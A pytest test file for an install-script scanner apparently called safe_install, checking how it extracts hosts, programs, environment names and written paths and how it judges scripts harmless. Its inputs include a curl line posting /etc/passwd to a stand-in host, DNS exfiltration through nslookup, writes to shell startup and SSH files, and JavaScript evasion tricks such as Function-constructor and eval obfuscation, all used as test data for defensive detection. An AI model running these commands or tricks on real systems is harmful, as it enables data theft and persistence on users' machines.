"""What reached code does is told in names, and what only prints is told apart, never by mistake."""

from __future__ import annotations

import pytest

from safe_install.model import Behaviours, Inspection
from safe_install.scan.grammars import parse_javascript
from safe_install.scan.javascript.harmless import only_prints
from safe_install.scan.javascript.javascript import read_javascript
from safe_install.scan.reach.behaviours import MOST, behaviours
from safe_install.scan.reach.reach import trace
from safe_install.scan.shell.shell import read_command
from tests.builders import Files, a_script


def inspect(command: str, files: Files | None = None) -> Inspection:
    return trace(a_script(command, files), {})


def of_shell(text: str) -> Behaviours:
    return behaviours((), read_command(text).commands)


def of_javascript(text: str) -> Behaviours:
    return behaviours([read_javascript(text.encode(), "a.js")], ())


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("curl -s https://a.test/x?y=z", ("a.test",)),
        ("curl a.test/x", ("a.test",)),
        ("curl --data @/etc/passwd $(hostname)x.b.test", ("x.b.test",)),
        ("nslookup $(whoami).a.test", ("a.test",)),
        ("git clone https://user:pw@a.test/x.git", ("a.test",)),
        ("node install.js", ()),
    ],
)
def test_hosts_in_commands(text: str, expected: tuple[str, ...]) -> None:
    assert of_shell(text).hosts == expected


def test_programs_that_are_started() -> None:
    told = of_shell("cd x && node a | sh -c b; ./run; echo c").programs
    assert told == ("./run", "node", "sh")
    assert of_javascript("require('child_process').spawn('xdg-open', ['x'])").programs == ("xdg-open",)


def test_names_of_the_environment_in_commands() -> None:
    assert of_shell('A=1 node $B ${C:-x} "$D" > $E').env == ("B", "C", "D", "E")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a > b 2>&1", ("b",)),
        ("a > /dev/null", ()),
        ("cp -r a b c", ("c",)),
        ("chmod +x a b", ("a", "b")),
        ("mkdir -p a; rm -rf b; touch c; tee d", ("a", "b", "c", "d")),
        ("ln -s a b; mv c d", ("b", "d")),
        ("a < b", ()),
    ],
)
def test_places_that_commands_write(text: str, expected: tuple[str, ...]) -> None:
    assert of_shell(text).writes == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo a >> ~/.bashrc", ("~/.bashrc",)),
        ("echo a > /etc/profile", ("/etc/profile",)),
        ("cp a ../b", ("../b",)),
        ("cp a lib/../../b", ("lib/../../b",)),
        ("cp a $HOME/.ssh/config", ("$HOME/.ssh/config",)),
        ("cp a b", ()),
    ],
)
def test_places_outside_are_told_apart(text: str, expected: tuple[str, ...]) -> None:
    assert of_shell(text).writes_outside == expected


def test_what_is_computed_in_a_place_stands_in_braces() -> None:
    told = of_javascript("require('fs').writeFileSync(`${dir}/entry`, x); require('fs').rmSync(`./lib/${name}.js`)")
    assert told.writes == ("./lib/{name}.js",)
    assert told.writes_outside == ("{dir}/entry",)


def test_a_script_is_told_as_a_whole() -> None:
    files = {
        "a.js": "require('./b'); require('fs').writeFileSync(__dirname + '/out.txt', process.env.A)",
        "b.js": "const https = require('https'); https.get('https://a.test'); require('child_process').execSync('curl b.test > c')",
    }
    assert inspect("B=$C node a", files).behaviours == Behaviours(
        env=("A", "C"), hosts=("a.test", "b.test"), programs=("curl", "node"), writes=("c", "out.txt")
    )


def test_our_own_sign_for_what_is_computed_is_no_name() -> None:
    assert inspect("node a", {"a.js": "require('child_process').exec(`a ${b} $C`)"}).behaviours.env == ("C",)


def test_names_are_bounded_and_each_told_once() -> None:
    text = "process.env.A0; " + "; ".join(f"process.env.A{index}" for index in range(MOST * 2))
    told = of_javascript(text).env
    assert len(told) == MOST
    assert list(told) == sorted(set(told))


# ------------------------------------------------------------------ harmless

BANNER = """
'use strict';
const path = require('path');
const pkg = require('./package.json');
function on(value) { return !!value && value !== '0'; }
var quiet = on(process.env.CI) || ['silent', 'error'].indexOf(process.env.npm_config_loglevel) > -1;
try {
  if (!quiet && process.stdout.isTTY) {
    console.log(`\\u001b[35mThank you for installing ${pkg.name}\\u001b[0m https://a.test/donate`);
    [1, 2].forEach((line) => console.error(String(line).padStart(4)));
  }
  if (Number(process.versions.node.split('.')[0]) < 18) { console.warn('old'); process.exit(1); }
} catch (error) { process.exitCode = 0; }
"""


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("exit 0", {}),
        ("echo 'thank you' && exit 0", {}),
        ("echo a > /dev/null 2>&1 || true", {}),
        ("test -f x && echo x || :", {}),
        ("node -e \"console.log('thank you')\"", {}),
        ("node banner", {"banner.js": BANNER}),
        ("node -e \"try{require('./banner')}catch(e){}\" || exit 0", {"banner.js": BANNER}),
        ("node a", {"a.js": "require('./b')", "b.js": "console.log(1)"}),
        ("node a", {"a.js": "#!/usr/bin/env node\n(() => { console.log(new Date().toString()) })()"}),
        ("sh a", {"a": "#!/bin/sh\nset -e\necho a"}),
    ],
)
def test_what_only_prints_or_exits_is_harmless(command: str, files: Files) -> None:
    inspection = inspect(command, files)
    assert not inspection.gaps
    assert inspection.harmless


@pytest.mark.parametrize(
    "command",
    [
        "echo a > b",
        "echo $(id) > b",
        "echo $(curl https://a.test)",
        "node install.js",
        "chmod +x a",
        "NODE_OPTIONS='-r ./b' echo a",
        "A=1 node -e ''",
        "echo a | sh",
        "exit 0; whatever",
        "cp a b",
        "node -r ./b -e ''",
    ],
)
def test_a_command_that_does_anything_else_is_not_harmless(command: str) -> None:
    files = {"b.js": "require('child_process')", "install.js": "require('./b')"}
    assert not inspect(command, files).harmless


LOOK_ALIKES = [
    "require('child_process')",
    "require('child_process').exec",
    "require('fs').writeFileSync('a', 'b')",
    "require('https').get('https://a.test')",
    "fetch('https://a.test/' + process.env.A)",
    "console.log(process.env)",
    "console.log(JSON.stringify(process.env))",
    "console.log({get a() { return 1 }})",
    "console.log.constructor('x')()",
    "console.log['constructor']('x')()",
    "console.log['con' + 'structor']('x')()",
    "const k = 'constructor'; console.log[k][k]('x')()",
    "const {constructor: F} = console.log; F('x')()",
    "const {log} = console",
    "[process.argv[2]].map(console.log.constructor)",
    "[].concat.call(1)",
    "console.log.apply(console, ['x'])",
    "console.log.bind(console)('x')",
    "''.__proto__",
    "String.prototype.trim = f",
    "Object.keys(process.env)",
    "process.binding('fs')",
    "process['binding']('fs')",
    "process.mainModule.require('./b')",
    "process.kill(process.pid)",
    "process.chdir('/')",
    "process.on('exit', () => {})",
    "process.stdout.write.constructor('x')()",
    "module.require('./b')",
    "module.constructor._load('fs')",
    "module.children",
    "var require; [ 'child_process' ].map(require)",
    "['./b'].map(require)",
    "const r = require",
    "require('./' + 'b')",
    "require(process.argv[2])",
    "require('./b', 1)",
    "eval('1')",
    "\\u0065val('1')",
    "Function('1')()",
    "new Function('1')",
    "setTimeout(f, 1)",
    "globalThis.x",
    "global.process",
    "this.x",
    "arguments[1]('fs')",
    "(function () { return arguments })()",
    "class A {}",
    "new A()",
    "import('./b')",
    "import './b.js'",
    "export default 1",
    "async () => { await 1 }",
    "function* g() { yield 1 }",
    "with (console) log(1)",
    "console.log`x`; f`x`",
    "console.log(...process.argv)",
    "x = process; x.env.y",
    "console = {log: f}; function console() {}",
    "label: for (;;) break label",
    "delete process.exit; process.env[A]",
    "Reflect.get(console, 'log')",
    "new Proxy({}, {})",
    "Symbol.iterator",
    "WebAssembly",
    "Buffer.from('x')",
    "undeclared('x')",
    "console.log('a'",
    "a = 1 <!-- /*\nrequire('child_process')\n/* */",
]


@pytest.mark.parametrize("text", LOOK_ALIKES)
def test_a_banner_with_anything_else_in_it_is_not_harmless(text: str) -> None:
    assert not inspect("node a", {"a.js": f"console.log('thank you');\n{text}\n", "b.js": ""}).harmless


@pytest.mark.parametrize("text", ["console.log('a'", "console.log('a'))", "const a = ;"])
def test_what_is_not_understood_is_not_harmless(text: str) -> None:
    root = parse_javascript(text.encode())
    assert root is not None
    assert not only_prints(root, text.encode())


def test_a_banner_is_as_harmless_as_what_it_requires() -> None:
    files = {"a.js": "console.log('thank you'); require('./b')", "b.js": "module.exports = require('os').userInfo()"}
    assert not inspect("node a", files).harmless


def test_a_banner_with_a_gap_is_not_harmless() -> None:
    assert not inspect("node a", {"a.js": f"console.log('{'x' * 130_000}')"}).harmless


def test_typescript_and_native_build_are_not_harmless() -> None:
    assert not inspect("node a.ts", {"a.ts": "console.log(1)"}).harmless
    assert not inspect("node-gyp rebuild", {"binding.gyp": "{}"}).harmless


@pytest.mark.parametrize(
    ("base", "inside", "outside"),
    [
        ("new URL('./b/', import.meta.url)", ("b/x",), ()),
        ("new URL('./b', import.meta.url)", ("x",), ()),
        ("new URL('b/', new URL('.', import.meta.url))", ("b/x",), ()),
        ("new URL('../../b/', import.meta.url)", (), ("../../b/x",)),
        ("'file:///b/'", (), ("/b/x",)),
    ],
)
def test_a_place_below_an_address_is_where_that_leads(
    base: str, inside: tuple[str, ...], outside: tuple[str, ...]
) -> None:
    done = of_javascript(f"import fs from 'fs';\nfs.writeFileSync(new URL('x', {base}), '');\n")
    assert (done.writes, done.writes_outside) == (inside, outside)
